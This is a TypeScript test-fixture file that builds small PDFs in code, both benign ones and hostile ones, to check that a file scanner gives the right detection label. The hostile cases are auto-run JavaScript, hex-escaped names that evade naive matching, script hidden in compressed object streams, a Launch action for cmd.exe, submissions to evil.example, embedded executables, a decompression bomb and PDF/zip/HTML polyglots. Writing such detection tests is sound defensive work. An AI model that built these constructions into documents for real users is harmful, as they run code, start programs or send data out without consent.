import { deflateSync } from "node:zlib";
import { craftZip } from "../../archives/crafted-zip.ts";
import type { Sample } from "./sample.ts";

/** A PDF of one page; `catalog` goes into its catalog, `objects` follow from number 4 on. */
export function pdf(catalog: string, objects: readonly (string | Buffer)[] = [], trailer = ""): Buffer {
  const all = [
    `<</Type/Catalog/Pages 2 0 R ${catalog}>>`,
    "<</Type/Pages/Kids[3 0 R]/Count 1>>",
    "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
    ...objects,
  ];
  const parts: Buffer[] = [Buffer.from("%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n", "latin1")];
  const offsets: number[] = [];
  for (const [index, object] of all.entries()) {
    offsets.push(Buffer.concat(parts).length);
    parts.push(Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(object as string), Buffer.from("\nendobj\n"));
  }
  const start = Buffer.concat(parts).length;
  const rows = offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n \n`).join("");
  parts.push(
    Buffer.from(
      `xref\n0 ${all.length + 1}\n0000000000 65535 f \n${rows}trailer\n<</Size ${all.length + 1}/Root 1 0 R${trailer}>>\nstartxref\n${start}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(parts);
}

/** Objects packed into a stream: numbers and offsets first, then the objects. */
export function objectStream(
  objects: readonly (readonly [number: number, text: string])[],
  head = "/Type/ObjStm",
  pad = 0,
): Buffer {
  let at = 0;
  const pairs = objects.map(([number, text]) => {
    const pair = `${number} ${at}`;
    at += text.length + 1;
    return pair;
  });
  const first = `${pairs.join(" ")} `;
  const packed = deflateSync(`${first}${objects.map(([, text]) => text).join(" ")} ${" ".repeat(pad)}`);
  return stream(`${head}/N ${objects.length}/First ${first.length}/Filter/FlateDecode`, packed);
}

function stream(dictionary: string, content: Buffer): Buffer {
  return Buffer.concat([Buffer.from(`<<${dictionary}/Length ${content.length}>>stream\n`), content, Buffer.from("\nendstream")]);
}

const SCRIPT = "<</S/JavaScript/JS(app.alert\\(1\\))>>";
const ZIP = craftZip([{ name: "a.txt", data: "b" }]);
const SIMPLE = pdf("");

export const GOOD_PDFS: readonly (readonly [string, Buffer])[] = [
  ["plain", SIMPLE],
  ["opening at a page, as LibreOffice writes it", pdf("/OpenAction[3 0 R /XYZ null null 0]")],
  ["opening by a jump elsewhere in the file", pdf("/OpenAction 4 0 R", ["<</S/GoTo/D[3 0 R/Fit]>>"])],
  [
    "opening by a jump in an object stream",
    pdf("/OpenAction 9 0 R", [
      objectStream([
        [8, "<</A 1>>"],
        [9, "<</S/GoTo/D[3 0 R/Fit]>>"],
      ]),
    ]),
  ],
  ["links to the web", pdf("", ["<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://example.org/#top)>>>>"])],
  ["objects packed", pdf("", [objectStream([[5, "<</Title(JavaScript for villages)>>"]])])],
];

type Case = readonly [about: string, bytes: Buffer, expected: string];

const CASES: readonly Case[] = [
  ["JavaScript on opening", pdf(`/OpenAction${SCRIPT}`), "pdf-active"],
  ["JavaScript with escaped names", pdf("/Open#41ction<</S/J#61v#61Script/JS(1)>>"), "pdf-active"],
  ["JavaScript by reference", pdf("/OpenAction 4 0 R", [SCRIPT]), "pdf-active"],
  ["JavaScript in the name tree", pdf(`/Names<</JavaScript<</Names[(a)${SCRIPT}]>>>>`), "pdf-active"],
  ["JavaScript when the page is shown", pdf("", [`<</Type/Page/AA<</O${SCRIPT}>>>>`]), "pdf-active"],
  ["JavaScript packed", pdf("/OpenAction 9 0 R", [objectStream([[9, SCRIPT]])]), "pdf-active"],
  ["JavaScript packed, escaped", pdf("", [objectStream([[9, "<</S/Java#53cript/JS(1)>>"]])]), "pdf-active"],
  ["JavaScript packed under an escaped type", pdf("", [objectStream([[9, SCRIPT]], "/Type/Obj#53tm")]), "pdf-active"],
  ["JavaScript packed without a type", pdf("", [objectStream([[9, SCRIPT]], "")]), "pdf-active"],
  ["JavaScript packed inside a comment's stream", pdf("", ["<</Length 9>>stream\n", objectStream([[9, SCRIPT]])]), "pdf-active"],
  [
    "JavaScript packed by an unknown filter",
    pdf("", [stream("/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode", Buffer.from("392030203c3c3e3e>"))]),
    "pdf-packing",
  ],
  [
    "JavaScript packed by two filters",
    pdf("", [stream("/Type/ObjStm/N 1/First 4/Filter[/ASCII85Decode/FlateDecode]", Buffer.from("x"))]),
    "pdf-packing",
  ],
  [
    "packed objects that do not unpack",
    pdf("", [stream("/Type/ObjStm/N 1/First 4/Filter/FlateDecode", Buffer.from("nothing"))]),
    "pdf-packing",
  ],
  ["bomb in packed objects", pdf("", [objectStream([[9, "<<>>"]], "/Type/ObjStm", 100_000_000)]), "archive-bomb"],
  ["program started", pdf("/OpenAction<</S/Launch/F(cmd.exe)>>"), "pdf-active"],
  ["web page on opening", pdf("/OpenAction<</S/URI/URI(https://evil.example/)>>"), "pdf-active"],
  ["web page on opening, by reference", pdf("/OpenAction 4 0 R", ["<</S/URI/URI(https://evil.example/)>>"]), "pdf-active"],
  ["an action after the jump", pdf("/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 4 0 R>>", ["<</S/Named/N/Print>>"]), "pdf-active"],
  ["action that cannot be followed", pdf("/OpenAction 77 0 R"), "pdf-active"],
  ["file inside", pdf("/Names<</EmbeddedFiles<</Names[(a.exe)4 0 R]>>>>", ["<</Type/Filespec/F(a.exe)>>"]), "pdf-active"],
  ["file inside as a note", pdf("", ["<</Type/Annot/Subtype/FileAttachment>>"]), "pdf-active"],
  ["XFA form", pdf("/AcroForm<</XFA 4 0 R>>"), "pdf-active"],
  ["form that sends itself", pdf("", ["<</S/SubmitForm/F(https://evil.example/)>>"]), "pdf-active"],
  ["encrypted", pdf("", ["<</Filter/Standard/V 4>>"], "/Encrypt 4 0 R"), "pdf-encrypted"],
  ["zip behind it", Buffer.concat([SIMPLE, ZIP]), "file-mixed"],
  [
    "zip behind it, its comment a second end",
    Buffer.concat([SIMPLE, craftZip([{ name: "a", data: "b" }], { comment: "%%EOF" })]),
    "file-mixed",
  ],
  ["page before it", Buffer.concat([Buffer.from("<html><script>alert(1)</script>"), SIMPLE]), "file-extension"],
  ["page behind it", Buffer.concat([SIMPLE, Buffer.from("<script>alert(1)</script>")]), "file-mixed"],
  ["cut short", SIMPLE.subarray(0, -10), "pdf-damaged"],
];

export const PDF_SAMPLES: readonly Sample[] = CASES.map(([about, bytes, expected]) => ({
  about: `PDF, ${about}`,
  name: "公告.pdf",
  bytes,
  expected,
}));
